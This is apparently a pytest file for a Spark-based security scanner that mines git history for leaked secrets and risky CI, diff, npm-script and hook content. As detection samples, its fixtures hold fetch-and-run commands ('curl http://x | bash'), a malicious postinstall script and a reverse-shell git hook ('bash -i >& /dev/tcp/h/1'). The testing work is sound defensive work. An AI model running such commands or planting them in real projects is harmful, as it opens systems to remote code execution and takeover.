import os
import subprocess

from pyspark.sql import functions as F

from lakewarden.operators import history as H
from lakewarden.sources.gitlog import read_git_log


def test_git_log(spark, tmp_path):
    def run(*args):
        env = os.environ | {k: "x" for k in ("GIT_AUTHOR_NAME", "GIT_COMMITTER_NAME")} | {k: "x@y" for k in ("GIT_AUTHOR_EMAIL", "GIT_COMMITTER_EMAIL")}
        subprocess.run(["git", "-C", str(tmp_path), *args], check=True, capture_output=True, env=env)

    run("init", "-q")
    (tmp_path / "a.py").write_text("x = 1\n" * 20)
    (tmp_path / ".env").write_text("K=1\n")
    run("add", "-A")
    run("commit", "-qm", "first")
    run("rm", "-q", ".env")
    run("mv", "a.py", "b.py")
    run("commit", "-qm", "second")
    log = read_git_log(spark, str(tmp_path), step="1", maxCommits="5")
    assert {(r.ord, r.subject, r.change, r.path, r.old_path) for r in log.collect()} == {(0, "second", "D", ".env", None), (0, "second", "R", "b.py", "a.py"), (1, "first", "A", ".env", None), (1, "first", "A", "a.py", None)}
    assert [r.path for r in H.sensitive_files(log).collect()] == [".env"]


def test_lifecycle(spark):
    rows = [("k1", "a", "c1", "2024-01-01", True), ("k1", "a", "c3", "2024-01-11", False), ("k2", "b", "c2", "2024-01-05", True), ("k3", "c", "c1", "2024-01-01", True), ("k3", "c", "c2", "2024-01-05", False), ("k3", "c", "c4", "2024-01-21", True)]
    seen = spark.createDataFrame(rows, "fingerprint string, path string, commit string, ts string, added boolean").withColumn("ts", F.to_timestamp("ts"))
    got = {r.fingerprint: (r.introduced, r.removed, r.active, r.exposure_days) for r in H.lifecycle(seen, spark.createDataFrame([("k2",), ("k3",)], "fingerprint string")).collect()}
    assert got == {"k1": ("c1", "c3", False, 10), "k2": ("c2", None, True, 16), "k3": ("c1", None, True, 20)}


def test_lines_and_scripts(spark):
    lines = spark.createDataFrame([(".github/workflows/a.yml", 1, "run: curl http://x | bash"), (".github/workflows/a.yml", 2, "- uses: a/b@v1"), (".github/workflows/a.yml", 3, "- uses: a/b@" + "0" * 40), ("x.sh", 1, "curl http://x | sh")], "path string, line_no int, line string")
    assert sorted((r.line_no, r.rule_id) for r in H.workflow_lines(lines).collect()) == [(1, "GIT-005"), (2, "GIT-006")]
    diff = spark.createDataFrame([("+DEBUG = True",), ("-DEBUG = True",), ("+ allow_origins = ['*']",), ("+x",)], "line string")
    assert H.risky_diff_lines(diff).count() == 2
    pkg = spark.createDataFrame([("package.json", '{"scripts": {"postinstall": "curl http://x | sh -c", "test": "curl x"}}'), ("b/package.json", "{")], "path string, content string")
    assert {(r.script, r.kind) for r in H.npm_scripts(pkg).collect()} == {("postinstall", "NETWORK"), ("postinstall", "PROCESS")}
    want = spark.createDataFrame([(".env",), ("*.pem",)], "pattern string")
    have = spark.createDataFrame([("# *.pem",), (" .env.local",)], "line string")
    assert [r.pattern for r in H.missing_ignores(have, want).collect()] == ["*.pem"]
    hooks = spark.createDataFrame([("pre-commit", "bash -i >& /dev/tcp/h/1"), ("post.sample", "curl"), ("ok", "echo")], "name string, content string")
    assert [r.name for r in H.suspicious_hooks(hooks).collect()] == ["pre-commit"]
    js = spark.createDataFrame([("a.js", 1, "const run = async () => exec(cmd)"), ("a.js", 2, "function go(x) { if (x) fetch.get(x) }")], "path string, line_no int, line string")
    assert {(r.fn, tuple(c for c in r.calls if c != r.fn)) for r in H.javascript_calls(js).collect()} == {("run", ("async", "exec")), ("go", ("fetch.get",))}
